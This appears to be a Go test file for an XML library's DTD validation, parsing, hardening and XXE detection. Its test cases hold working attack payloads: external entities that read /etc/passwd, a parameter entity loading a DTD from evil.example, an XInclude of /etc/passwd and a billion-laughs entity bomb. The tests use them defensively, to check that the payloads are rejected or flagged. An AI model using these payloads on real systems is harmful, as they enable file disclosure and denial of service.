@@ -0,0 +1,269 @@
+package textlib
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+const testLibraryDTD = `<?xml version="1.0"?>
+<!DOCTYPE library [
+  <!ELEMENT library (book+, note?)>
+  <!ELEMENT book (title, author*, (isbn | issn))>
+  <!ATTLIST book
+    id ID #REQUIRED
+    lang (en | de | fr) "en"
+    series IDREF #IMPLIED
+    format CDATA #FIXED "print">
+  <!ELEMENT title (#PCDATA | em)*>
+  <!ELEMENT em (#PCDATA)>
+  <!ELEMENT author (#PCDATA)>
+  <!ELEMENT isbn (#PCDATA)>
+  <!ELEMENT issn (#PCDATA)>
+  <!ELEMENT note EMPTY>
+  <!ENTITY pub "Caia &amp; Co">
+]>
+`
+
+func TestXMLDocumentDTDValidation(t *testing.T) {
+	tests := []struct {
+		name   string
+		body   string
+		errors []XMLError // Line, Column, Type and Path are compared
+	}{
+		{
+			name: "valid",
+			body: `<library>
+  <book id="b1"><title>Go <em>fast</em></title><author>&pub;</author><isbn>1</isbn></book>
+  <book id="b2" lang="de" series="b1"><title>Zwei</title><issn>2</issn></book>
+  <note/>
+</library>`,
+		},
+		{
+			name: "violations",
+			body: `<library>
+  <book id="b1" lang="es"><title>A</title><isbn>1</isbn><issn>2</issn></book>
+  <book id="b1" series="b9" format="ebook"><author>X</author></book>
+  <note>text</note>
+  <extra/>
+</library>`,
+			errors: []XMLError{
+				{Line: 19, Column: 3, Type: "DTD_ERROR", Path: "/library/book[1]"},         // lang not in enumeration
+				{Line: 19, Column: 57, Type: "DTD_ERROR", Path: "/library/book[1]/issn"},   // isbn and issn
+				{Line: 20, Column: 3, Type: "DTD_ERROR", Path: "/library/book[2]"},         // duplicate ID
+				{Line: 20, Column: 3, Type: "DTD_ERROR", Path: "/library/book[2]"},         // FIXED format
+				{Line: 20, Column: 3, Type: "DTD_ERROR", Path: "/library/book[2]"},         // IDREF b9
+				{Line: 20, Column: 44, Type: "DTD_ERROR", Path: "/library/book[2]/author"}, // title missing
+				{Line: 21, Column: 3, Type: "DTD_ERROR", Path: "/library/note"},            // EMPTY
+				{Line: 22, Column: 3, Type: "DTD_ERROR", Path: "/library/extra"},           // undeclared, unexpected
+				{Line: 22, Column: 3, Type: "DTD_ERROR", Path: "/library/extra"},
+			},
+		},
+	}
+
+	dir := t.TempDir()
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			path := filepath.Join(dir, tt.name+".xml")
+			if err := os.WriteFile(path, []byte(testLibraryDTD+tt.body), 0644); err != nil {
+				t.Fatal(err)
+			}
+			got, err := ValidateXML(path, XMLValidationOptions{DTD: true})
+			if err != nil {
+				t.Fatalf("ValidateXML failed: %v", err)
+			}
+			if len(got) != len(tt.errors) {
+				t.Fatalf("Expected %d errors, got %d: %+v", len(tt.errors), len(got), got)
+			}
+			for i, want := range tt.errors {
+				g := got[i]
+				if g.Line != want.Line || g.Column != want.Column || g.Type != want.Type || g.Path != want.Path {
+					t.Errorf("Error %d: expected %d:%d %s %s, got %d:%d %s %s (%s)",
+						i, want.Line, want.Column, want.Type, want.Path, g.Line, g.Column, g.Type, g.Path, g.Message)
+				}
+			}
+		})
+	}
+}
+
+func TestParseXMLDocument(t *testing.T) {
+	doc, err := ParseXMLDocument([]byte(testLibraryDTD+`<library>
+  <book id="b1"><title>Go <em>fast</em>!</title><author>&pub; &#x41;</author><isbn>1</isbn></book>
+</library>`), XMLValidationOptions{})
+	if err != nil {
+		t.Fatalf("ParseXMLDocument failed: %v", err)
+	}
+
+	book := doc.Root.Children[0]
+	if book.Line != 19 || book.Column != 3 || book.Path() != "/library/book" {
+		t.Errorf("Expected book at 19:3, got %d:%d %s", book.Line, book.Column, book.Path())
+	}
+	if id, ok := book.Attr("id"); !ok || id != "b1" {
+		t.Errorf("Expected id b1, got %q", id)
+	}
+	if got := book.Children[0].StringValue(); got != "Go fast!" {
+		t.Errorf("Expected title text %q, got %q", "Go fast!", got)
+	}
+	if got := book.Children[1].Text; got != "Caia & Co A" {
+		t.Errorf("Expected expanded entity, got %q", got)
+	}
+	if doc.DTD == nil || doc.DTD.Name != "library" || doc.DTD.Entities["pub"].Value != "Caia &amp; Co" {
+		t.Errorf("Expected the DTD to be kept, got %+v", doc.DTD)
+	}
+
+	for _, bad := range []string{"", "<a></b>", "<a/><b/>", "text<a/>", "<a>&undefined;</a>"} {
+		if _, err := ParseXMLDocument([]byte(bad), XMLValidationOptions{}); err == nil {
+			t.Errorf("Expected %q to fail", bad)
+		}
+	}
+}
+
+func TestParseXMLDocumentManyElements(t *testing.T) {
+	doc, err := ParseXMLDocument([]byte(manyXMLElements(20000)), XMLValidationOptions{Hardened: true})
+	if err != nil {
+		t.Fatalf("ParseXMLDocument failed: %v", err)
+	}
+	if n := len(doc.Root.Children); n != 20000 {
+		t.Fatalf("Expected 20000 items, got %d", n)
+	}
+	last := doc.Root.Children[19999]
+	if last.Line != 20001 || last.Column != 3 {
+		t.Errorf("Expected the last item at 20001:3, got %d:%d", last.Line, last.Column)
+	}
+	if last.Text != "a & b cdata  c" || last.StringValue() != "a & b cdata <c> c" {
+		t.Errorf("Unexpected item text %q, string value %q", last.Text, last.StringValue())
+	}
+}
+
+// manyXMLElements returns a document with n items on their own lines
+func manyXMLElements(n int) string {
+	var b strings.Builder
+	b.WriteString("<root>\n")
+	for i := 0; i < n; i++ {
+		b.WriteString("  <item>a &amp; b <![CDATA[cdata]]> <i>&lt;c&gt;</i> c</item>\n")
+	}
+	b.WriteString("</root>")
+	return b.String()
+}
+
+func BenchmarkParseXMLDocument(b *testing.B) {
+	data := []byte(manyXMLElements(10000))
+	for i := 0; i < b.N; i++ {
+		if _, err := ParseXMLDocument(data, XMLValidationOptions{Hardened: true}); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+func TestXMLHardenedParsing(t *testing.T) {
+	laughs := `<!DOCTYPE lolz [
+  <!ENTITY lol "lol">
+  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
+  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
+  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
+  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
+  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
+  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
+]>
+<lolz>&lol9;</lolz>`
+
+	tests := []struct {
+		name     string
+		xml      string
+		opts     XMLValidationOptions
+		wantType string // empty when the document should parse
+	}{
+		{"external entity", `<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>`, XMLValidationOptions{Hardened: true}, "SECURITY_ERROR"},
+		{"external entity unhardened", `<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>`, XMLValidationOptions{}, ""},
+		{"external DTD", `<!DOCTYPE r SYSTEM "http://example.com/r.dtd"><r/>`, XMLValidationOptions{Hardened: true}, "SECURITY_ERROR"},
+		{"parameter entity", `<!DOCTYPE r [<!ENTITY % p "x">]><r/>`, XMLValidationOptions{Hardened: true}, "SECURITY_ERROR"},
+		{"billion laughs", laughs, XMLValidationOptions{}, "SECURITY_ERROR"},
+		{"many small references", `<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">]><r>` + strings.Repeat("&a;", 200) + `</r>`, XMLValidationOptions{MaxEntityExpansion: 1000}, "SECURITY_ERROR"},
+		{"recursive entity", `<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]><r>&a;</r>`, XMLValidationOptions{}, "SECURITY_ERROR"},
+		{"deep nesting", strings.Repeat("<a>", 20) + strings.Repeat("</a>", 20), XMLValidationOptions{Hardened: true, MaxDepth: 10}, "SECURITY_ERROR"},
+		{"deep nesting unhardened", strings.Repeat("<a>", 20) + strings.Repeat("</a>", 20), XMLValidationOptions{MaxDepth: 10}, ""},
+		{"internal entities hardened", `<!DOCTYPE r [<!ENTITY a "ok">]><r>&a;</r>`, XMLValidationOptions{Hardened: true}, ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			doc, errs := parseXMLDocument([]byte(tt.xml), tt.opts)
+			if tt.wantType == "" {
+				if doc == nil {
+					t.Fatalf("Expected document to parse, got %+v", errs)
+				}
+				return
+			}
+			if doc != nil || len(errs) == 0 || errs[0].Type != tt.wantType {
+				t.Errorf("Expected %s, got %+v", tt.wantType, errs)
+			}
+		})
+	}
+
+	// External entities are never fetched, even when not hardened
+	doc, _ := parseXMLDocument([]byte(`<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>`), XMLValidationOptions{})
+	if doc.Root.Text != "" {
+		t.Errorf("Expected external entity to expand to nothing, got %q", doc.Root.Text)
+	}
+}
+
+func TestDetectXXEPatterns(t *testing.T) {
+	tests := []struct {
+		name  string
+		xml   string
+		types []string
+	}{
+		{"xxe", `<?xml version="1.0"?>
+<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<foo>&xxe;</foo>`, []string{"xxe"}},
+		{"parameter entity", `<!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><foo/>`, []string{"xxe"}},
+		{"billion laughs", `<!DOCTYPE b [<!ENTITY a "` + strings.Repeat("x", 1000) + `">
+<!ENTITY b "` + strings.Repeat("&a;", 1100) + `">]><b>&b;</b>`, []string{"xml_bomb"}},
+		{"external DTD", `<!DOCTYPE note SYSTEM "note.dtd"><note/>`, []string{"xxe"}},
+		{"xinclude", `<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></doc>`, []string{"xxe"}},
+		{"html doctype", `<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd"><html></html>`, nil},
+		{"safe", `<!DOCTYPE r [<!ENTITY a "fine">]><r>&a;</r>`, nil},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			threats := detectXXEPatterns([]byte(tt.xml))
+			if len(threats) != len(tt.types) {
+				t.Fatalf("Expected %d threats, got %+v", len(tt.types), threats)
+			}
+			for i, typ := range tt.types {
+				if threats[i].Type != typ {
+					t.Errorf("Expected %s, got %+v", typ, threats[i])
+				}
+			}
+		})
+	}
+
+	path := filepath.Join(t.TempDir(), "payload.xml")
+	os.WriteFile(path, []byte(tests[0].xml), 0644)
+	threats, err := DetectMaliciousPatterns(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, threat := range threats {
+		if threat.Type == "xxe" && threat.Severity == "high" && threat.Position == 37 {
+			found = true
+		}
+	}
+	if !found {
+		t.Errorf("Expected DetectMaliciousPatterns to flag the entity, got %+v", threats)
+	}
+
+	// A parameter entity is located by its own declaration, not by a
+	// general entity of the same name
+	xml := `<!DOCTYPE foo [<!ENTITY x "a"><!ENTITY % x SYSTEM "http://evil.example/x.dtd">]><foo/>`
+	threats = detectXXEPatterns([]byte(xml))
+	if len(threats) != 1 || threats[0].Position != int64(strings.Index(xml, "<!ENTITY %")) {
+		t.Errorf("Expected one threat at the parameter entity, got %+v", threats)
+	}
+}